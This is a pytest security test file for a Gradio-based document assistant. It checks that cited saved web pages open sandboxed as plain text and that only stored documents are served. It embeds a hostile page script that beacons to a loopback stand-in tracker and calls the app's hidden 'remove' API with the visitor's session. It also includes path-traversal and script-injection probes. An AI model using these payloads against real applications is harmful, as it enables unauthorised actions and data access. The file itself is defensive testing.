"""A cited document opens without ever running on the app's origin (issue 11, case 1).

A real saved web page (text from ``shared/corpus/web``) is saved as HTML with scripts that try
what a hostile page would: read ``/config``, then call the app's hidden ``remove`` endpoint
through ``/gradio_api/queue/join`` with the user's session, and load trackers (a server on
loopback stands in for the tracker, so nothing leaves the machine). It is ingested with a real
PDF, the app is served, and Debian's Chromium opens both from the evidence panel.
"""

from __future__ import annotations

import html
import http.server
import json
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from conftest import CORPUS, CORPUS_PDF, free_port

from assistant.config import Settings
from assistant.core import Assistant

CHROMIUM = Path("/usr/bin/chromium")
BROWSER_ARGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--no-first-run",
]
WEB_PAGE = CORPUS / "web" / "devon-scp-thematic-review-nai-infants-0-2.md"
PDF = CORPUS_PDF / "ci-triennial-review-icrs-scrs-2018-2021.pdf"
PAGE_FILE = "devon-nai-learning-briefing.html"
FATHERS = "What did the thematic review find about the voice of fathers in assessments?"
GLASGOW = "How did Glasgow Child Protection Committee respond to an SCR about neglect?"
SANDBOX = "sandbox; default-src 'none'"

# What a hostile saved page does if it runs: mark itself, phone home, and remove itself from
# the library through the app's own API with the visitor's session.
EXPLOIT = """
document.title = "script ran";
fetch("TRACKER/beacon", {mode: "no-cors"}).catch(() => {});
(async () => {
  const config = await (await fetch("/config")).json();
  const session = Math.random().toString(36).slice(2);
  const call = async (name, data) => {  // as the app's own page calls its events
    const fn = config.dependencies.find((d) => d.api_name === name);
    await fetch("/gradio_api/queue/join", {
      method: "POST", headers: {"Content-Type": "application/json"},
      body: JSON.stringify({data, fn_index: fn.id, trigger_id: null, session_hash: session,
                            event_data: null}),
    });
    const reader = (await fetch("/gradio_api/queue/data?session_hash=" + session)).body
      .getReader();
    let seen = "";
    while (!seen.includes("process_completed")) {
      const {done, value} = await reader.read();
      if (done) break;
      seen += new TextDecoder().decode(value);
    }
    reader.cancel();
  };
  await call("library", []);  // fills this session's remove menu
  await call("remove", ["FILE"]);
  fetch("TRACKER/removed", {mode: "no-cors"}).catch(() => {});
})();
"""

pytestmark = [
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]
needs_chromium = pytest.mark.skipif(not CHROMIUM.exists(),
                                    reason="needs Debian's chromium at /usr/bin")


class Tracker:
    """A web server on loopback that records every request made to it."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.hits = hits
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def saved_page(source: Path, tracker: str) -> str:
    """The saved page as a browser saves it: its text, plus trackers and hostile scripts."""
    lines = source.read_text(encoding="utf-8").splitlines()
    title = lines[0].lstrip("# ").strip()
    body = [ln.strip() for ln in lines[1:] if ln.strip() and not ln.startswith("Source:")]
    blocks = "".join(
        f"<li>{html.escape(ln.lstrip('• ').strip())}</li>" if ln.startswith("•")
        else f"<h2>{html.escape(ln)}</h2>" if ln[:2].rstrip(".").isdigit()
        else f"<p>{html.escape(ln)}</p>"
        for ln in body
    )
    script = EXPLOIT.replace("TRACKER", tracker).replace("FILE", PAGE_FILE)
    return (
        f'<!doctype html><html><head><meta charset="utf-8"><title>{html.escape(title)}</title>'
        f'<link rel="stylesheet" href="{tracker}/style.css">'
        f'<script src="{tracker}/analytics.js"></script><script>{script}</script></head>'
        f"<body><main><h1>{html.escape(title)}</h1>{blocks}"
        f'<img src="{tracker}/pixel.gif" alt="" onerror="document.title=\'onerror ran\'">'
        f"</main><script>document.body.dataset.pwned = 'yes';</script></body></html>"
    )


@pytest.fixture(scope="module")
def tracker() -> Iterator[Tracker]:
    t = Tracker()
    yield t
    t.server.shutdown()


@pytest.fixture(scope="module")
def library(
    tmp_path_factory: pytest.TempPathFactory, embedder: Any, tracker: Tracker
) -> Assistant:
    root = tmp_path_factory.mktemp("rla-stored")
    page = root / "in" / PAGE_FILE
    page.parent.mkdir()
    page.write_text(saved_page(WEB_PAGE, tracker.url), encoding="utf-8")
    assistant = Assistant(replace(Settings.from_env({}), home=root / "home"), embedder=embedder)
    report = assistant.ingest([page, PDF])
    assert sorted(c.file for c in report.ingested) == sorted([PAGE_FILE, PDF.name])
    return assistant


@pytest.fixture
def app_url(library: Assistant) -> Iterator[str]:
    from ui.app import launch

    app = launch(library, port=free_port(), block=False, quiet=True)
    try:
        yield (app.local_url or "").rstrip("/")
    finally:
        app.close()


def _stored(assistant: Assistant, file: str) -> Path:
    card = next(c for c in assistant.documents() if c.file == file)
    path = assistant.stored_file(card.doc_id)
    assert path is not None
    return path.resolve()


def _assert_sandboxed(headers: Any) -> None:
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"].startswith(SANDBOX)


# -- in the browser -------------------------------------------------------------------------------


def _ask(page: Any, question: str, file: str) -> Any:
    from playwright.sync_api import expect

    box = page.locator("#rla-question textarea")
    box.fill(question)
    box.press("Enter")
    card = page.locator("#rla-evidence .rla-turn:not([hidden]) .rla-source", has_text=file)
    expect(card.first).to_be_visible(timeout=90_000)
    return card.first


@pytest.mark.browser
@needs_chromium
def test_a_cited_web_page_opens_as_text_and_its_scripts_never_run(
    app_url: str, library: Assistant, tracker: Tracker
) -> None:
    from playwright.sync_api import expect, sync_playwright

    stored = _stored(library, PAGE_FILE)
    requests: list[tuple[Any, str]] = []  # (page, URL) of every request of the browser
    responses: list[Any] = []
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), headless=True,
                                     args=BROWSER_ARGS)
        try:
            context = chromium.new_context(viewport={"width": 1400, "height": 1000})
            context.on("request", lambda r: requests.append((_page_of(r), r.url)))
            context.on("response", lambda r: responses.append(r))
            page = context.new_page()
            page.goto(app_url)
            card = _ask(page, FATHERS, PAGE_FILE)
            expect(card).to_contain_text("fathers")
            link = card.locator("a.rla-open")
            expect(link).to_have_text("Open the document ↗")
            with page.expect_popup() as popup_info:
                link.click()
            doc = popup_info.value
            doc.wait_for_load_state("load")
            doc.wait_for_timeout(3_000)  # time for any script to have done its work
            assert PAGE_FILE in [c.file for c in library.documents()]  # not removed
            assert tracker.hits == []  # no tracker, script, style sheet or image loaded

            # The tab shows the page's text, as plain text: no script ran, nothing loaded.
            expect(doc.locator("body")).to_contain_text("authentic voice of fathers")
            assert doc.title() not in ("script ran", "onerror ran")
            assert doc.locator("script, img, link").count() == 0
            assert doc.evaluate("() => document.contentType") == "text/plain"
            assert doc.evaluate("() => document.body.dataset.pwned === undefined")
            assert doc.evaluate("() => window.origin") == "null"  # sandboxed: no origin

            # The headers the browser got for it.
            got = [r for r in responses if r.url.endswith(quote(str(stored)))]
            assert got and all(r.status == 200 for r in got)
            for r in got:
                assert r.headers["content-type"] == "text/plain; charset=utf-8"
                _assert_sandboxed(r.headers)

            # The document is still in the library, in the store and in the Documents tab.
            page.bring_to_front()
            page.get_by_role("tab", name="Documents").click()
            expect(page.locator("#rla-library")).to_contain_text(PAGE_FILE)
        finally:
            chromium.close()
    assert PAGE_FILE in [c.file for c in library.documents()]
    assert tracker.hits == []
    # Whatever the app's own page did not ask for, the opened tab did: only the document.
    opened = [url for where, url in requests if where is not page]
    assert opened and all(quote(str(stored)) in url for url in opened), opened
    assert not [u for _, u in requests if u.startswith(tracker.url)]


def _page_of(request: Any) -> Any:
    try:
        return request.frame.page
    except Exception:  # a service worker's request has no frame
        return None


@pytest.mark.browser
@needs_chromium
def test_a_cited_pdf_still_opens_at_its_page_in_the_pdf_viewer(
    app_url: str, library: Assistant
) -> None:
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), headless=True,
                                     args=BROWSER_ARGS)
        try:
            page = chromium.new_page(viewport={"width": 1400, "height": 1000})
            page.goto(app_url)
            card = _ask(page, GLASGOW, PDF.name)
            link = card.locator("a.rla-open")
            expect(link).to_have_text("Open the PDF at page 28 ↗")
            with page.expect_popup() as popup_info:
                link.click()
            doc = popup_info.value
            viewer = None
            for _ in range(100):
                viewer = next((f for f in doc.frames if f.url.startswith("chrome-extension://")),
                              None)
                if viewer is not None:
                    break
                doc.wait_for_timeout(100)
            assert viewer is not None, [f.url for f in doc.frames]  # Chromium's PDF viewer
            expect(viewer.locator("#pageSelector")).to_have_value("28", timeout=20_000)
            expect(viewer.locator("#pagelength")).to_have_text("34")
            href = link.get_attribute("href") or ""
            got = page.request.get(app_url + "/" + href.split("#")[0])
            assert got.ok and got.headers["content-type"] == "application/pdf"
            _assert_sandboxed(got.headers)
        finally:
            chromium.close()


# -- over HTTP ------------------------------------------------------------------------------------


def test_every_stored_file_response_is_sandboxed_and_only_documents_are_served(
    app_url: str, library: Assistant
) -> None:
    folder = library.settings.files_dir.resolve()
    pdf, page = _stored(library, PDF.name), _stored(library, PAGE_FILE)
    stray = folder / ("0" * 64 + ".html")  # in the folder, but no document of the store
    stray.write_text("<script>alert(1)</script>", encoding="utf-8")
    other_suffix = page.with_suffix(".pdf")  # a document's id with another type
    other_suffix.write_bytes(pdf.read_bytes())
    try:
        with httpx.Client(trust_env=False, timeout=60) as client:
            def get(target: Any, method: str = "GET", **kw: Any) -> httpx.Response:
                return client.request(method, f"{app_url}/gradio_api/file={target}", **kw)

            whole = get(pdf)
            assert whole.status_code == 200 and whole.content == pdf.read_bytes()
            assert whole.headers["content-type"] == "application/pdf"
            assert whole.headers["content-disposition"].startswith("inline")
            part = get(pdf, headers={"Range": "bytes=0-99"})  # the PDF viewer asks for ranges
            assert part.status_code == 206 and part.content == pdf.read_bytes()[:100]
            text = get(page)
            assert text.status_code == 200
            assert text.headers["content-type"] == "text/plain; charset=utf-8"
            assert "authentic voice of fathers" in text.text and "<main>" not in text.text
            head = get(page, "HEAD")
            assert head.status_code == 200
            refused = {
                "not a document": get(stray),
                "id with another type": get(other_suffix),
                "the folder": get(folder),
                "a name not of the store": get(folder / "notes.txt"),
                "POST": get(pdf, "POST"),
            }
            assert {k: r.status_code for k, r in refused.items()} == {
                "not a document": 404, "id with another type": 404, "the folder": 404,
                "a name not of the store": 404, "POST": 405,
            }
            for response in [whole, part, text, head, *refused.values()]:
                _assert_sandboxed(response.headers)
                assert "text/html" not in response.headers.get("content-type", "")
            # Gradio itself serves nothing from the folder, by any of its routes.
            for url in (f"{app_url}/gradio_api/file/{page}", f"{app_url}/gradio_api/file/{pdf}",
                        f"{app_url}/gradio_api/file={folder}/../chroma/chroma.sqlite3"):
                assert client.get(url).status_code in (403, 404), url
    finally:
        stray.unlink()
        other_suffix.unlink()


def test_the_html_page_is_what_the_old_route_served_as_live_html(library: Assistant) -> None:
    """The stored copy really is the hostile page (so the tests above prove something)."""
    stored = _stored(library, PAGE_FILE).read_text(encoding="utf-8")
    assert "<script>" in stored and "/gradio_api/queue/join" in stored
    assert json.dumps(PAGE_FILE) in stored
